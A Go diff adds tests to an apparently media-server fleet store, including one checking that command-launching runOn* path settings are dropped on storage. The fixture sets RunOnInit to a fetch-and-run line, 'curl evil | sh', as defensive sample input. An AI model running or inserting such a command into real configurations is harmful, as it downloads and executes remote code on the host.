@@ -35,6 +35,9 @@ func TestFleetPathRoundTrip(t *testing.T) {
 	p := fullPath()
 	v := reflect.ValueOf(p)
 	for i := range v.NumField() {
+		if v.Type().Field(i).Tag.Get("origin") == "file" {
+			continue // runOn*: never a fleet path's, see TestFleetPathNeverKeepsCommands
+		}
 		if v.Field(i).IsZero() {
 			t.Fatalf("fullPath leaves conf.PathConf.%s zero: extend it and the store's mirror", v.Type().Field(i).Name)
 		}
@@ -94,5 +97,24 @@ func TestPathStatsAccumulate(t *testing.T) {
 	want := store.PathStats{BytesIn: 15, BytesOut: 7, Readers: 1, PacketsDropped: 1}
 	if all["cam1"] != want || all["cam2"].Reconnects != 2 {
 		t.Fatalf("stats %+v", all)
+	}
+}
+
+// The runOn* keys start commands and come from the config file only: the
+// store has no place for them, so a fleet path that somehow carried one
+// comes back without it.
+func TestFleetPathNeverKeepsCommands(t *testing.T) {
+	s := storetest.New(t, store.Options{})
+	yes := true
+	p := conf.PathConf{Source: "publisher", RunOnInit: "sh -c 'curl evil | sh'", RunOnDemand: "ffmpeg", RunOnDemandRestart: &yes}
+	if err := s.PutFleetPath("cam9", p); err != nil {
+		t.Fatal(err)
+	}
+	got, err := s.FleetPath("cam9")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(got, conf.PathConf{Source: "publisher"}) {
+		t.Fatalf("stored %+v", got)
 	}
 }
